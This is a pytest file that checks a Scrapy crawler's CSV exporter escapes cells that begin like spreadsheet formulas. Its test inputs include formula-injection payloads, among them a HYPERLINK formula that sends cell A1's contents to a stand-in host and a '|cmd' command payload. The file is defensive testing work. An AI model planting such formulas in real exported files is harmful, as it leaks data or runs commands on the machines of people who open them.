"""A CSV feed holds no formula, whatever a page calls itself."""

import csv
import io

import pytest
from scrapy import Item
from scrapy.item import Field
from scrapy.utils.misc import load_object

from ragcrawler import settings


class Row(Item):
    title = Field()


def cell(value: object) -> str:
    """The value as it comes out of a file that the project's exporter wrote."""
    file = io.BytesIO()
    exporter = load_object(settings.FEED_EXPORTERS["csv"])(file)
    exporter.start_exporting()
    exporter.export_item(Row(title=value))
    exporter.finish_exporting()
    _, row = csv.reader(io.StringIO(file.getvalue().decode()))
    return row[0]


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://a.example/?"&A1,"x")',
        "+1",
        "-1+1|cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1",
        ["=1", "b"],
    ],
)
def test_text_that_begins_like_a_formula_is_text(value: object) -> None:
    assert cell(value).startswith("'")


@pytest.mark.parametrize(
    ("value", "written"),
    [("Vents", "Vents"), ("a=b", "a=b"), (-1, "-1"), (0.5, "0.5"), (None, ""), ("", ""), (["a", "b"], "a,b")],
)
def test_other_values_are_as_they_are(value: object, written: str) -> None:
    assert cell(value) == written
